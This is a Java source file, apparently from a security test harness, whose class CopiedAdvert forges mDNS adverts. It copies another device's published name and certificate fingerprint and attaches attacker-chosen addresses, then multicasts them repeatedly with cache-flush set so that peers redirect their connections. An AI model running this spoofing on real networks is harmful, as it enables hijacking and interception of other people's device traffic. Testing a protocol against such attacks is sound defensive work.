package dev.lanward.attackers;

import dev.lanward.mdns.Advert;
import dev.lanward.mdns.AdvertWriter;
import dev.lanward.mdns.MdnsProtocol;
import dev.lanward.mdns.ServiceType;
import java.io.IOException;
import java.net.Inet4Address;
import java.net.InetSocketAddress;
import java.net.NetworkInterface;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import org.xbill.DNS.AAAARecord;
import org.xbill.DNS.ARecord;
import org.xbill.DNS.DClass;
import org.xbill.DNS.Flags;
import org.xbill.DNS.Message;
import org.xbill.DNS.Name;
import org.xbill.DNS.PTRRecord;
import org.xbill.DNS.Record;
import org.xbill.DNS.SRVRecord;
import org.xbill.DNS.Section;
import org.xbill.DNS.Type;

/**
 * Tells the advert of somebody else's device, whose name and certificate everybody can read, with
 * addresses of its own choice: to aim the knocks of that device's peers at them.
 */
final class CopiedAdvert {
  static final Set<String> OPTIONS = Set.of("interface", "name", "type", "fingerprint", "claims");
  static final String SYNOPSIS =
      "--interface IF --name NAME --fingerprint AA:BB:.. --claims ADDRESS:PORT[,ADDRESS:PORT]"
          + " [--type device] [--seconds 60]";

  private static final Duration PAUSE = Duration.ofMillis(300);
  private static final int TTL_SECONDS = 120;

  /** Class IN with the cache-flush bit (RFC 6762 section 10.2). */
  private static final int FLUSH_IN = 0x8001;

  private CopiedAdvert() {}

  static void run(Options options, Report report, Stop stop)
      throws UsageException, IOException, InterruptedException {
    List<InetSocketAddress> claims = options.addresses("claims");
    Advert copy =
        new Advert.Visible(
            Advert.VERSION,
            List.of("lw1"),
            Advert.PairingMode.CLOSED,
            options.fingerprint("fingerprint"),
            options.text("type").orElse("device"));
    byte[] wire = message(options.required("name"), copy, claims).toWire();
    NetworkInterface device = NetworkInterface.getByName(options.required("interface"));
    if (device == null) {
      throw new IOException("there is no such network interface");
    }
    long end = System.nanoTime() + options.time().toNanos();
    int told = 0;
    try (LyingResponder.Socket socket = LyingResponder.open(device, MdnsProtocol.GROUP_IPV4)) {
      report.event("ready");
      do {
        socket.channel().send(ByteBuffer.wrap(wire), socket.group());
        told++;
      } while (System.nanoTime() - end < 0 && stop.pause(PAUSE));
    }
    report.event("result", "told", told);
  }

  private static Message message(String name, Advert advert, List<InetSocketAddress> claims)
      throws IOException {
    Name type = Name.fromString(ServiceType.LANWARD + ".local.");
    Name instance = Name.fromString(name.replace(".", "\\."), type);
    Name host = Name.fromString(UUID.randomUUID() + ".local.");
    Message message = new Message(0);
    message.getHeader().setFlag(Flags.QR);
    message.getHeader().setFlag(Flags.AA);
    add(message, new PTRRecord(type, DClass.IN, TTL_SECONDS, instance));
    int port = claims.get(0).getPort();
    add(message, new SRVRecord(instance, FLUSH_IN, TTL_SECONDS, 0, 0, port, host));
    byte[] txt = AdvertWriter.write(advert).toArray();
    add(message, Record.newRecord(instance, Type.TXT, FLUSH_IN, TTL_SECONDS, txt));
    for (InetSocketAddress claim : claims) {
      add(
          message,
          claim.getAddress() instanceof Inet4Address
              ? new ARecord(host, FLUSH_IN, TTL_SECONDS, claim.getAddress())
              : new AAAARecord(host, FLUSH_IN, TTL_SECONDS, claim.getAddress()));
    }
    return message;
  }

  private static void add(Message message, Record record) {
    message.addRecord(record, Section.ANSWER);
  }
}
